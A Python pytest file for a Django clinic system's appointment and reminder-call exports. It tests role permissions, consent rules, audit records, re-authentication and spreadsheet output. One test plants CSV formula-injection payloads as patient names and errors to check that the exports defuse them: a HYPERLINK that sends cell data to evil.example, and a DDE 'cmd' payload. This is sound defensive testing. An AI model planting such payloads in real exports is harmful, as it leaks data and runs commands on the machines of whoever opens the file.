"""What leaves the appointment book as a file: who may take it, and what stands in it."""

import re

import pytest
from django.urls import reverse

from appointments.models import Reminder
from foundation.messaging.models import Message
from foundation.records.models import Look
from patients.models import ContactConsent
from tests.factories import accounts, appointments, patients
from tests.factories.appointments import NOW, at
from tests.sheets import in_csv, in_xlsx

pytestmark = pytest.mark.usefixtures("clock", "house")
CHOOSE = reverse("appointments:export_choose")
VISITS = reverse("appointments:appointment_export")
CALLS = reverse("appointments:reminder_export")
DAY = {"from_on": "10 Mar 2026", "format": "csv"}
ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Asha\")"  # fmt: skip


@pytest.fixture
def desk(client, receptionist):
    client.force_login(receptionist)
    return client


@pytest.fixture
def visit(couple, clinician):
    return appointments.visit(by=clinician, couple=couple, starts_at=at(14))


def fail_to_remind(visit, *, error: str = "The line is engaged.") -> Reminder:
    """Let her reminder of that visit not reach her."""
    message = Message.objects.create(
        key=f"visit:{visit.pk}", channel="sms", address="+919820012345", template="t",
        text="We expect you.", not_before=NOW, state="failed", error=error,
    )  # fmt: skip
    return Reminder.objects.create(
        appointment=visit, person=visit.couple.woman, channel="sms", kind="two_days",
        for_start=visit.starts_at, due_at=NOW, state="queued", message=message,
    )  # fmt: skip


def test_the_visits_of_a_day_are_handed_over(desk, visit, couple, clinician):
    answer = desk.get(VISITS, DAY)
    assert answer["Content-Disposition"] == 'attachment; filename="visits-2026-03-10.csv"'
    assert in_csv(answer.content) == [
        [
            "2026-03-10", "14:00", "15:00", couple.number, "Asha Sample and Rohan Sample",
            "First consultation", "clinician", "Consulting 1", "Booked",
        ]
    ]  # fmt: skip


def test_a_period_holds_its_first_and_its_last_day_and_no_other(desk, clinician):
    for day in (9, 10, 12, 13):
        appointments.visit(
            by=clinician, couple=patients.couple(by=clinician), starts_at=at(9, day=day)
        )
    answer = desk.get(VISITS, DAY | {"until_on": "12/3/2026"})
    assert [row[0] for row in in_csv(answer.content)] == ["2026-03-10", "2026-03-12"]
    assert "visits-2026-03-10-to-2026-03-12.csv" in answer["Content-Disposition"]


def test_a_cancelled_visit_and_notes_for_colleagues_stay_in_the_book(
    desk, visit, clinician
):
    other = patients.couple(by=clinician)
    appointments.visit(
        by=clinician, couple=other, starts_at=at(9), status="cancelled",
        cancel_reason="Ill", ended_at=NOW,
    )  # fmt: skip
    visit.note = "Brings her sister"
    visit.save()
    content = desk.get(VISITS, DAY).content.decode()
    assert other.number not in content
    assert "sister" not in content


def test_taking_visits_out_is_on_the_record(desk, visit):
    desk.get(VISITS, DAY)
    assert Look.objects.get(action="appointments.exported").details == {
        "from_on": "2026-03-10",
        "until_on": "2026-03-10",
        "rows": 1,
    }


def test_the_calls_to_make_are_handed_over_with_the_telephone(desk, visit, couple):
    ContactConsent.objects.create(
        written_by=couple.written_by, person=couple.woman, channel="call", granted=True
    )
    fail_to_remind(visit)
    telephone = couple.woman.phones.get().number.as_international
    answer = desk.get(CALLS, {"format": "csv"})
    assert in_csv(answer.content) == [
        [
            "2026-03-10 14:00", couple.number, "Asha Sample", f"'{telephone}", "English",
            "Could not be sent", "The line is engaged.",
        ]
    ]  # fmt: skip
    workbook = in_xlsx(desk.get(CALLS).content)
    assert workbook["D2"] == ("s", telephone, [])
    assert Look.objects.filter(action="calls.exported", details={"rows": 1}).count() == 2


def test_without_consent_to_a_call_no_telephone_leaves(desk, visit, couple):
    fail_to_remind(visit)
    content = desk.get(CALLS, {"format": "csv"}).content.decode()
    assert "No consent to a call" in content
    assert couple.woman.phones.get().digits[-6:] not in re.sub(r"\D", "", content)


def test_no_name_becomes_a_formula(desk, clinician):
    attacked = patients.couple(by=clinician, woman=ATTACK, man="@SUM(1+1)")
    visit = appointments.visit(by=clinician, couple=attacked, starts_at=at(14))
    fail_to_remind(visit, error="+1+cmd|' /C calc'!A0")
    for address, query in ((VISITS, DAY), (CALLS, {"format": "csv"})):
        [row] = in_csv(desk.get(address, query).content)
        assert [cell for cell in row if cell.startswith(tuple("=+-@"))] == []
        cells = in_xlsx(desk.get(address, query | {"format": "xlsx"}).content)
        assert [cell for cell in cells.values() if cell[2]] == []
        assert {cells[f"E{1}"][0], cells["E2"][0]} == {"s"}


@pytest.mark.parametrize(
    ("asked", "sentence"),
    [
        ({"from_on": ""}, "Please fill this in."),
        ({"from_on": "soon"}, "soon"),
        ({"from_on": "10 Mar 2026", "until_on": "9 Mar 2026"}, "before the first"),
        ({"from_on": "1 Jan 2026", "until_on": "4 Apr 2026"}, "three months (93 days)"),
    ],
)
def test_a_period_that_cannot_be_is_refused_in_words(desk, asked, sentence):
    answer = desk.get(VISITS, asked)
    assert answer.status_code == 422
    assert "Nothing was exported." in answer.content.decode()
    assert sentence in answer.content.decode()
    assert not Look.objects.filter(action="appointments.exported").exists()


def test_three_months_are_not_too_long(desk):
    asked = {"from_on": "1 Jan 2026", "until_on": "3 Apr 2026"}
    assert desk.get(VISITS, asked).status_code == 200


def test_another_kind_of_file_is_not_found(desk):
    assert desk.get(VISITS, DAY | {"format": "exe"}).status_code == 404
    assert desk.get(CALLS, {"format": "exe"}).status_code == 404


@pytest.mark.parametrize("address", [CHOOSE, VISITS, CALLS])
@pytest.mark.parametrize(
    ("role", "status"),
    [("reception", 200), ("manager", 200), ("nurse", 403), ("clinician", 403),
     ("laboratory", 403), ("researcher", 403)],
)  # fmt: skip
def test_reception_and_manager_take_it_out_and_nobody_else(client, address, role, status):
    client.force_login(accounts.staff(role, f"another {role}"))
    assert client.get(address, DAY).status_code == status


@pytest.mark.parametrize("address", [CHOOSE, VISITS, CALLS])
def test_who_sits_at_the_keyboard_is_asked_again(desk, visit, clock, address):
    clock.shift(301)
    answer = desk.get(address, DAY)
    assert answer.status_code == 401
    assert "Asha" not in answer.content.decode()
    assert not Look.objects.filter(action__endswith=".exported").exists()


@pytest.mark.parametrize("address", ["appointments:calendar", "appointments:reminder_list"])
def test_the_way_is_shown_to_those_who_may_go_it(client, receptionist, nurse, address):
    for who, is_shown in ((receptionist, True), (nurse, False)):
        client.force_login(who)
        assert (CHOOSE in client.get(reverse(address)).content.decode()) is is_shown


def test_the_page_begins_with_the_day_one_came_from(desk):
    assert 'value="12 Mar 2026"' in desk.get(CHOOSE, {"on": "12 Mar 2026"}).content.decode()
    assert 'value="10 Mar 2026"' in desk.get(CHOOSE).content.decode()


def test_a_sheet_takes_the_same_queries_for_one_and_for_thirty(
    desk, clinician, django_assert_max_num_queries
):
    for number in range(2):
        fail_to_remind(a_visit(clinician, number))
    with django_assert_max_num_queries(12) as visits:
        desk.get(VISITS, DAY | {"until_on": "20 Mar 2026"})
    with django_assert_max_num_queries(12) as calls:
        desk.get(CALLS)
    for number in range(2, 30):
        fail_to_remind(a_visit(clinician, number))
    with django_assert_max_num_queries(len(visits)):
        desk.get(VISITS, DAY | {"until_on": "20 Mar 2026"})
    with django_assert_max_num_queries(len(calls)):
        desk.get(CALLS)


def a_visit(clinician, number: int):
    moment = at(9 + number % 6, day=11 + number // 6)
    return appointments.visit(
        by=clinician, couple=patients.couple(by=clinician), starts_at=moment
    )
